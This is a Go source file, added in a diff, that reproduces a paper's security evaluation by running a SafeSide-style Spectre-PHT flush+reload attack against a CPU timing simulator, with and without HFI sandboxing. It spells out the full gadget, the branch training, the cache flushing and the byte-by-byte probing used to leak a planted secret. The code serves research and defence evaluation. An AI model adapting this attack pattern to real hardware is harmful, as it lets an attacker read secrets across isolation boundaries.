@@ -1,0 +1,214 @@
+// Package spectre reproduces the paper's security evaluation (§5.3, Fig 7):
+// SafeSide-style Spectre-PHT and TransientFail-style Spectre-BTB attacks run
+// against the timing simulator, with and without HFI protection.
+//
+// The attack is the classic flush+reload gadget: the attacker trains a
+// predictor, flushes the bounds variable so the check resolves late, and
+// invokes the victim with an out-of-bounds index. Wrong-path execution loads
+// the secret and touches a probe-array cache line before the squash; probing
+// the 256 candidate lines afterwards recovers the byte. With HFI enabled,
+// the data-region check runs before the cache can be touched (§4.1), so the
+// speculative out-of-bounds load leaves no trace.
+package spectre
+
+import (
+	"fmt"
+
+	"hfi/internal/cpu"
+	"hfi/internal/hfi"
+	"hfi/internal/isa"
+	"hfi/internal/kernel"
+)
+
+// Guest memory layout for the PoC.
+const (
+	codeBase    = 0x1000
+	array1Base  = 0x100000 // victim's in-bounds array
+	sizeAddr    = 0x100100 // array1_size, flushed by the attacker
+	probeBase   = 0x180000 // 256 * 512-byte flush+reload receiver
+	probeStride = 512
+	secretBase  = 0x200000 // application secret, outside HFI regions
+)
+
+// Secret is the planted application secret, as in the SafeSide PoC.
+const Secret = "It's a s3kr3t!!!"
+
+// Result describes one byte's worth of attack: the probe latency observed
+// for each of the 256 candidate values, and the byte recovered (the unique
+// sub-threshold line, if any).
+type Result struct {
+	Latency [256]int
+	Leaked  byte
+	// Hit is true when exactly the leak signal was observed (some line
+	// below the hit threshold outside the trained values).
+	Hit bool
+}
+
+// Harness owns the machine, victim program and attack orchestration.
+type Harness struct {
+	M    *cpu.Machine
+	Core *cpu.Core
+	prog *isa.Program
+
+	// Protected selects the HFI-enabled variant.
+	Protected bool
+}
+
+// NewPHT builds the Spectre-PHT harness. If protected, the victim runs
+// inside an HFI sandbox whose data regions cover the arrays but not the
+// secret.
+func NewPHT(protected bool) (*Harness, error) {
+	h := &Harness{M: cpu.NewMachine(), Protected: protected}
+	h.Core = cpu.NewCore(h.M)
+
+	// Victim gadget (in-place Spectre-PHT, as in Google SafeSide):
+	//   if (x < array1_size) { y = probe[array1[x] * 512]; }
+	b := isa.NewBuilder(codeBase)
+	b.Label("victim")
+	b.MovImm(isa.R5, sizeAddr)
+	b.Load(8, isa.R2, isa.R5, isa.RegNone, 1, 0) // array1_size (slow when flushed)
+	b.Br(isa.CondGEU, isa.R1, isa.R2, "out")     // bounds check
+	b.MovImm(isa.R6, array1Base)
+	b.Load(1, isa.R3, isa.R6, isa.R1, 1, 0) // array1[x] — or the secret
+	b.ShlImm(isa.R3, isa.R3, 9)
+	b.MovImm(isa.R7, probeBase)
+	b.Load(1, isa.R4, isa.R7, isa.R3, 1, 0) // touch probe line
+	b.Label("out")
+	b.Halt()
+	h.prog = b.Build()
+
+	if err := h.setup(); err != nil {
+		return nil, err
+	}
+	return h, nil
+}
+
+func (h *Harness) setup() error {
+	m := h.M
+	if err := m.LoadProgram(h.prog); err != nil {
+		return err
+	}
+	rw := kernel.ProtRead | kernel.ProtWrite
+	for _, r := range [][2]uint64{
+		{array1Base, 0x10000}, // array1 + size variable
+		{probeBase, 0x40000},  // probe array
+		{secretBase, 0x1000},  // the secret page
+	} {
+		if err := m.AS.MapFixed(r[0], r[1], rw); err != nil {
+			return err
+		}
+	}
+	// Plant data: array1 holds small values 1..16; the secret sits at
+	// secretBase, which the malicious index reaches relative to array1.
+	for i := 0; i < 16; i++ {
+		m.Mem().StoreByte(array1Base+uint64(i), byte(i%16)+1)
+	}
+	m.Mem().Write(sizeAddr, 8, 16)
+	m.Mem().WriteBytes(secretBase, []byte(Secret))
+
+	if h.Protected {
+		// The trusted runtime confines the victim: code region over the
+		// gadget, data regions over array1/size and the probe array. The
+		// secret is in no region, so even speculative access is blocked.
+		if f := m.HFI.SetCodeRegion(0, hfi.ImplicitRegion{
+			BasePrefix: codeBase &^ 0xfff, LSBMask: 0xfff, Exec: true,
+		}); f != nil {
+			return fmt.Errorf("code region: %v", f)
+		}
+		if f := m.HFI.SetDataRegion(0, hfi.ImplicitRegion{
+			BasePrefix: array1Base, LSBMask: 0xffff, Read: true, Write: true,
+		}); f != nil {
+			return fmt.Errorf("data region 0: %v", f)
+		}
+		if f := m.HFI.SetDataRegion(1, hfi.ImplicitRegion{
+			BasePrefix: probeBase, LSBMask: 0x7ffff, Read: true, Write: true,
+		}); f != nil {
+			return fmt.Errorf("data region 1: %v", f)
+		}
+		if _, f := m.HFI.Enter(hfi.Config{Hybrid: true}); f != nil {
+			return fmt.Errorf("enter: %v", f)
+		}
+	}
+	return nil
+}
+
+// callVictim runs the victim gadget once with index x. Faults are expected
+// in the protected runs if speculation reaches the commit point; the signal
+// handler resumes at the gadget's halt.
+func (h *Harness) callVictim(x uint64) {
+	m := h.M
+	m.Kern.Sigsegv = func(kernel.SigInfo) uint64 {
+		// The runtime re-enters the sandbox and resumes past the gadget.
+		if h.Protected && !m.HFI.Enabled {
+			m.HFI.Reenter()
+		}
+		return h.prog.Entry("out")
+	}
+	m.PC = h.prog.Entry("victim")
+	m.Regs[isa.R1] = x
+	h.Core.Run(1_000_000)
+}
+
+// HitThreshold separates cached from uncached probe latencies.
+const HitThreshold = 50
+
+// AttackByte leaks the byte at offset off of the secret. It returns the
+// per-candidate latencies and the recovered byte.
+func (h *Harness) AttackByte(off int) Result {
+	m := h.M
+	maliciousX := uint64(secretBase) + uint64(off) - array1Base
+
+	// Train the bounds-check branch in-bounds.
+	for i := 0; i < 16; i++ {
+		h.callVictim(uint64(i % 8))
+	}
+	// Flush the probe array and the bounds variable; keep the secret warm
+	// (the victim application recently used it).
+	for i := 0; i < 256; i++ {
+		m.Hier.Flush(probeBase + uint64(i)*probeStride)
+	}
+	m.Hier.Flush(sizeAddr)
+	m.Hier.LoadLatency(secretBase + uint64(off))
+
+	// One malicious call.
+	h.callVictim(maliciousX)
+
+	// Reload: measure each candidate line.
+	var res Result
+	best, bestLat := -1, 1<<30
+	for i := 0; i < 256; i++ {
+		lat := m.Hier.Lat.Mem
+		if m.Hier.Probe(probeBase + uint64(i)*probeStride) {
+			lat = m.Hier.Lat.L1
+		}
+		res.Latency[i] = lat
+		if lat < HitThreshold && lat < bestLat {
+			// Ignore the training values 1..16 when attributing the leak.
+			if i > 16 {
+				best, bestLat = i, lat
+			}
+		}
+	}
+	if best >= 0 {
+		res.Leaked = byte(best)
+		res.Hit = true
+	}
+	return res
+}
+
+// LeakString attacks each byte of the secret in turn and returns the
+// recovered string (unrecovered bytes read as '?') plus per-byte results.
+func (h *Harness) LeakString(n int) (string, []Result) {
+	out := make([]byte, n)
+	results := make([]Result, n)
+	for i := 0; i < n; i++ {
+		r := h.AttackByte(i)
+		results[i] = r
+		if r.Hit {
+			out[i] = r.Leaked
+		} else {
+			out[i] = '?'
+		}
+	}
+	return string(out), results
+}
